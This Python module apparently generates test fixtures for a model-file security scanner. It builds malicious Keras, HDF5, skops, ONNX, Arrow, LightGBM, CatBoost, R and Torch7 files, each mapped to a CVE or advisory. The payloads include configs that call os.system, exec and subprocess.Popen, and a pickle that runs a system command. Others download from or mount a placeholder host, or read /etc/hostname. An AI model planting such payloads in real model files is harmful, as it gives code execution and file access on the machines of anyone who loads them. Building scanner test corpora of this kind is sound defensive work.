"""Keras and HDF5, skops, files of other languages, programs under a model's name, data files that hold pickles."""

# ruff: noqa: E501, S108 - one technique a line, however long; paths in payloads that nothing runs

import gzip
import json
import struct
from pathlib import Path

from .containers import entry, tarred, zipped
from .graphs import onnx, step
from .technique import ECHO, NOWHERE, Technique, field, harm, one

FILES = Path(__file__).parent / "files"
KERAS = "Keras advisories: "
HDF5 = "CVE-2026-1669, HDF5 features in weights: "
SKOPS = "io-no/CVE-Reports on skops: "
AUDIT = "promptfoo/modelaudit scanners: "
OTHER = "serialized objects of other languages: "


def kept(title: str, source: str, rules: tuple[str, ...], path: str) -> Technique:
    """Return the technique of one committed file."""
    return one(title, source, rules, (FILES / path).read_bytes, path)


def keras(config: object, weights: bytes | None = None, **more: bytes) -> bytes:
    """Return a .keras archive of this configuration."""
    weights = (FILES / "plain.weights.h5").read_bytes() if weights is None else weights
    metadata = json.dumps({"keras_version": "3.11.0", "date_saved": "2026-01-01@00:00:00"}).encode()
    return zipped(
        {
            "metadata.json": metadata,
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": weights,
            **more,
        }
    )


def layer(module: str, class_name: str, config: object, registered: str | None = None) -> dict[str, object]:
    """Return one serialized object of Keras 3."""
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered}


def model(*layers: object, **more: object) -> dict[str, object]:
    """Return a Sequential model of these layers."""
    return {**layer("keras", "Sequential", {"name": "s", "layers": list(layers)}), **more}


def _keras(title: str, source: str, rules: tuple[str, ...], *layers: object, **more: object) -> Technique:
    return one(title, KERAS + source, rules, lambda: keras(model(*layers, **more)), "model.keras")


def skops(node: dict[str, object], **members: bytes) -> bytes:
    """Return a .skops archive of this schema."""
    schema = {"protocol": 2, "_skops_version": "0.13.0", "__id__": 1, **node}
    return zipped({**members, "schema.json": json.dumps(schema).encode()})


def held(module: str, class_name: str, loader: str, content: object, number: int = 2) -> dict[str, object]:
    """Return one node of a skops schema."""
    return {
        "__class__": class_name,
        "__module__": module,
        "__loader__": loader,
        "content": content,
        "__id__": number,
    }


def _java() -> bytes:
    return b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap" + bytes(20)


def _dot_net() -> bytes:
    return (
        b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00"
        b"System" + bytes(20)
    )


def _r_promise() -> bytes:
    """An R promise with its expression: a language object that is evaluated when it is touched."""
    call = struct.pack(">I", 6) + struct.pack(">I", 1) + struct.pack(">II", 0x00040009, 6) + b"system"
    return gzip.compress(
        b"X\n"
        + struct.pack(">III", 3, 0x40300, 0x30500)
        + struct.pack(">II", 5, 5)
        + b"UTF-8"
        + struct.pack(">I", 5)
        + call,
        mtime=0,
    )


def _torch7() -> bytes:
    """An object of the function type of Torch 7: dumped Lua code."""
    code = b"\x1bLJ\x02\x02" + b"os.execute('" + ECHO.encode() + b"')"
    return struct.pack("<ii", 6, 1) + struct.pack("<i", len(code)) + code


def _arrow() -> bytes:
    """An Arrow stream whose schema's metadata holds a pickled type."""
    return (
        b"\xff\xff\xff\xff\x10\x00\x00\x00"
        b"ARROW:extension:name\0arrow.py_extension_type\0ARROW:extension:metadata\0" + harm()
    )


TECHNIQUES = [
    _keras(
        "Lambda with byte code",
        "CVE-2024-3660",
        ("030", "009"),
        layer(
            "keras.layers",
            "Lambda",
            {
                "name": "l",
                "function": {
                    "class_name": "__lambda__",
                    "config": {"code": "4wEAAAA=", "defaults": None, "closure": None},
                },
            },
        ),
    ),
    _keras(
        "function of any module",
        "CVE-2025-1550",
        ("031",),
        layer(
            "keras.layers",
            "Dense",
            {"name": "d", "units": 1, "activation": layer("builtins", "function", "exec", "function")},
        ),
    ),
    _keras(
        "download by a function of Keras",
        "CVE-2025-8747",
        ("031", "032"),
        layer(
            "keras.layers",
            "Lambda",
            {
                "name": "l",
                "function": layer("keras.utils", "function", "get_file", "function"),
                "arguments": {"origin": f"http://{NOWHERE}/x", "fname": "x", "cache_dir": "/tmp"},
            },
        ),
    ),
    _keras(
        "switch that turns safety off",
        "CVE-2025-9906",
        ("031",),
        layer("keras.config", "enable_unsafe_deserialization", {}),
    ),
    _keras(
        "torch module in a layer",
        "CVE-2025-49655",
        ("030", "031"),
        layer("keras.layers", "TorchModuleWrapper", {"name": "t", "module": "gAJ9Lg=="}),
    ),
    _keras(
        "SavedModel that a layer opens",
        "CVE-2026-1462",
        ("030", "032"),
        layer(
            "keras.layers",
            "TFSMLayer",
            {"name": "t", "filepath": f"\\\\{NOWHERE}\\share", "call_endpoint": "serve"},
        ),
    ),
    _keras(
        "vocabulary from a file",
        "CVE-2025-12058",
        ("032",),
        layer("keras.layers", "StringLookup", {"name": "s", "vocabulary": "/etc/hostname"}),
    ),
    _keras(
        "vocabulary from an address",
        "CVE-2025-12058",
        ("032",),
        layer("keras.layers", "IntegerLookup", {"name": "s", "vocabulary": f"http://{NOWHERE}/v.txt"}),
    ),
    _keras(
        "dictionary of a tokenizer from a file",
        "keras-hub tokenizers",
        ("031", "032"),
        layer("keras_hub.tokenizers", "WordPieceTokenizer", {"name": "w", "vocabulary": "/etc/hostname"}),
    ),
    _keras(
        "registered class that is not Keras's",
        "CVE-2024-3660, registered_name",
        ("031",),
        layer("evil", "Layer", {"name": "e"}, "evil>Layer"),
    ),
    _keras(
        "loss of any module",
        "CVE-2025-1550, compile_config",
        ("031",),
        layer("keras.layers", "Dense", {"name": "d", "units": 1}),
        compile_config={"optimizer": "adam", "loss": layer("os", "function", "system", "function")},
    ),
    _keras(
        "build configuration that names a class",
        "CVE-2025-1550, build_config",
        ("031",),
        {
            **layer("keras.layers", "Dense", {"name": "d", "units": 1}),
            "build_config": layer("subprocess", "Popen", {"args": ["echo"]}),
        },
    ),
    one(
        "weights of a .keras file that are a link",
        HDF5 + "in an archive",
        ("032", "050"),
        lambda: keras(model(), (FILES / "external_link.h5").read_bytes()),
        "model.keras",
    ),
    one(
        "weights of a .keras file that are a pickle",
        KERAS + "weights that are no HDF5",
        ("001",),
        lambda: keras(model(), harm()),
        "model.keras",
    ),
    one(
        "pickle among the assets of a .keras file",
        KERAS + "assets",
        ("001",),
        lambda: keras(model(), **{"assets/a.pkl": harm()}),
        "model.keras",
    ),
    one(
        "array of weights as npz of objects",
        KERAS + "model.weights.npz",
        ("001",),
        lambda: zipped(
            {
                "metadata.json": b'{"keras_version": "3.11.0"}',
                "config.json": json.dumps(model()).encode(),
                "model.weights.npz": zipped({"__root__.npy": harm()}),
            }
        ),
        "model.keras",
    ),
    kept("external link in weights", HDF5 + "links", ("032", "050"), "external_link.h5"),
    kept("external storage of weights", HDF5 + "storage", ("032", "050"), "external_storage.h5"),
    kept("virtual data set", HDF5 + "virtual data sets", ("032", "050"), "virtual.h5"),
    kept("Lambda in HDF5", KERAS + "CVE-2025-9905", ("030", "009"), "lambda.h5"),
    kept("Lambda inside another layer", KERAS + "CVE-2025-9905", ("030",), "inner_lambda.h5"),
    kept("registered class in HDF5", KERAS + "CVE-2025-9905", ("031",), "custom.h5"),
    kept("loss in HDF5 that names a builtin", KERAS + "training_config", ("031",), "training.h5"),
    kept(
        "attribute that PyTables unpickles",
        "PyTables attributeset.py, pickled attributes",
        ("001", "007"),
        "pytables.h5",
    ),
    kept("pickle in a data set", "modelaudit, HDF5 opaque values", ("001", "007"), "objects.h5"),
    kept("script before an HDF5 file", HDF5 + "user blocks", ("026", "101"), "userblock.h5"),
    kept("filter that is a plugin", HDF5 + "dynamically loaded filters", ("",), "filter.h5"),
    one(
        "operator node that calls",
        SKOPS + "CVE-2025-54412",
        ("080",),
        lambda: skops(
            held(
                "operator",
                "call",
                "OperatorFuncNode",
                held("builtins", "tuple", "TupleNode", [held("builtins", "str", "JsonNode", '"x"', 4)], 3),
            )
        ),
        "model.skops",
    ),
    one(
        "method node that walks to builtins",
        SKOPS + "CVE-2025-54413",
        ("080",),
        lambda: skops(
            held(
                "sklearn.svm",
                "SVC",
                "MethodNode",
                {
                    "func": "decision_function.__builtins__",
                    "obj": held("sklearn.svm._classes", "SVC", "ObjectNode", {}, 3),
                },
            )
        ),
        "model.skops",
    ),
    one(
        "function of the system",
        SKOPS + "trusted types",
        ("080",),
        lambda: skops(held("os", "system", "FunctionNode", {"module_path": "os", "function": "system"})),
        "model.skops",
    ),
    one(
        "type under a loader that is harmless",
        SKOPS + "loaders that do not fit",
        ("080",),
        lambda: skops(held("subprocess", "Popen", "JsonNode", "1")),
        "model.skops",
    ),
    one(
        "loader that nobody knows",
        SKOPS + "loaders that do not fit",
        ("080", ""),
        lambda: skops(held("builtins", "dict", "EvilNode", {})),
        "model.skops",
    ),
    one(
        "array of objects in skops",
        SKOPS + "CVE-2025-54886 and arrays",
        ("001", "080"),
        lambda: skops(
            {**held("numpy", "ndarray", "NdArrayNode", None), "type": "numpy", "file": "2.npy"},
            **{
                "2.npy": b"\x93NUMPY\x01\x00v\x00"
                + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117)
                + b"\n"
                + harm()
            },
        ),
        "model.skops",
    ),
    one(
        "random generator of another module",
        SKOPS + "bit generators",
        ("080",),
        lambda: skops(
            held(
                "numpy.random",
                "Generator",
                "RandomGeneratorNode",
                {"bit_generator": {"bit_generator": "evil"}},
            )
        ),
        "model.skops",
    ),
    one("joblib under the name of skops", SKOPS + "CVE-2025-54886", ("001",), harm, "model.skops"),
    one("pickle under the name of an XGBoost model", AUDIT + "xgboost", ("001",), harm, "model.json"),
    one(
        "pickle under the name of an HDF5 file",
        AUDIT + "file types by content (#117)",
        ("001",),
        harm,
        "model.h5",
    ),
    one(
        "pickle under the name of an ONNX model",
        AUDIT + "file types by content (#117)",
        ("001",),
        harm,
        "model.onnx",
    ),
    one(
        "pickle behind a LightGBM model",
        AUDIT + "lightgbm",
        ("001", "026"),
        lambda: (
            b"tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=0\nobjective=regression\nfeature_names=a\n"
            b"feature_infos=none\ntree_sizes=\n\nend of trees\n\nfeature_importances:\n\nparameters:\n[boosting: gbdt]\nend of parameters\n\npandas_categorical:null\n"
            + harm()
        ),
        "model.txt",
    ),
    one(
        "file that LightGBM is told to read",
        "LightGBM parameters, forcedsplits_filename",
        ("032", "050", "061", ""),
        lambda: (
            b"tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=0\nobjective=regression\nfeature_names=a\n"
            b"feature_infos=none\ntree_sizes=\n\nend of trees\n\nparameters:\n[forcedsplits_filename: /etc/hostname]\nend of parameters\n\npandas_categorical:null\n"
        ),
        "model.txt",
    ),
    one(
        "pickle behind a CatBoost model",
        AUDIT + "catboost",
        ("001", "026", ""),
        lambda: b"CBM1" + struct.pack("<I", 16) + bytes(16) + harm(),
        "model.cbm",
    ),
    one("Java object", OTHER + "Spark, Weka, H2O", ("",), _java, "model.bin"),
    one("object of .NET's BinaryFormatter", OTHER + "BinaryFormatter", (), _dot_net, "model.dat"),
    one("promise of R", "CVE-2024-27322", ("",), _r_promise, "model.rds"),
    one("function of Torch 7", AUDIT + "torch7 (#632)", ("",), _torch7, "model.t7"),
    one(
        "byte code of Python",
        OTHER + "pyc files beside weights",
        ("101", "009"),
        lambda: b"\xcb\x0d\x0d\x0a" + bytes(12) + b"\xe3" + bytes(30),
        "model.pyc",
    ),
    one(
        "byte code of Java",
        OTHER + "POJO models",
        ("101",),
        lambda: b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(30),
        "Model.class",
    ),
    one(
        "WebAssembly",
        OTHER + "compiled models",
        ("101",),
        lambda: b"\x00asm\x01\x00\x00\x00" + bytes(8),
        "model.wasm",
    ),
    one(
        "llamafile",
        "Protect AI, PAIT-LMAFL-300",
        ("101",),
        lambda: b"MZqFpD='\n\n\0" + bytes(100) + b"llamafile",
        "model.llamafile",
    ),
    one(
        "Windows program under the name of weights",
        AUDIT + "programs in binary files",
        ("101",),
        lambda: b"MZ\x90\x00" + bytes(56) + struct.pack("<I", 64) + b"PE\0\0" + bytes(64),
        "pytorch_model.bin",
    ),
    one(
        "library of macOS",
        AUDIT + "llamafile magic numbers",
        ("101",),
        lambda: b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(40),
        "op.dylib",
    ),
    one(
        "shell script among the weights",
        AUDIT + "shebangs (#411)",
        ("101",),
        lambda: b"#!/usr/bin/env bash\necho x\n",
        "setup",
    ),
    one(
        "line that runs when Python starts",
        "CPython site.py, .pth files",
        ("101", "009", "061"),
        lambda: b"import os; os.getcwd()\n",
        "lockgate.pth",
    ),
    one(
        "program in an archive of weights",
        AUDIT + "tar",
        ("101",),
        lambda: tarred([entry("m/op.so", b"\x7fELF\x02\x01\x01" + bytes(60))]),
        "model.tar",
    ),
    one(
        "operator library beside its model",
        "binaryninja/Malicious-Models, custom_op.so",
        ("101",),
        lambda: b"\x7fELF\x02\x01\x01\x00" + bytes(56),
        "custom_op.so",
    ),
    one("pickled type in Arrow", "CVE-2023-47248", ("001", "007", ""), _arrow, "data.arrow"),
    one(
        "layer of a container image",
        AUDIT + "oci_layer",
        ("001",),
        lambda: gzip.compress(tarred([entry("models/m.pkl", harm())]), mtime=0),
        "layer.tar.gz",
    ),
    one(
        "object of MessagePack",
        AUDIT + "flax_msgpack",
        ("001", "007", ""),
        lambda: b"\x82\xa6params\xc7" + bytes([len(harm())]) + b"\x2a" + harm() + b"\xa1a\x01",
        "flax_model.msgpack",
    ),
    one(
        "data of Julia's BSON",
        OTHER + "BSON.jl lowers types to code",
        ("",),
        lambda: b"\x1c\x00\x00\x00\x02tag\x00\x07\x00\x00\x00struct\x00\x0aa\x00\x0ab\x00\x00\x00",
        "model.bson",
    ),
    one(
        "model of RKNN with an address",
        AUDIT + "rknn",
        ("",),
        lambda: b"RKNN\x00\x00\x00\x00" + f"http://{NOWHERE}/x".encode(),
        "model.rknn",
    ),
    one(
        "metadata of ONNX that is a pickle",
        "ONNX metadata_props",
        ("001", "007", ""),
        lambda: onnx(
            field(1, step("Identity")),
            field(
                14,
                field(1, "extra") + field(2, "gASVHAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAZlY2hvIHiUhZRSlC4="),
            ),
        ),
        "model.onnx",
    ),
]
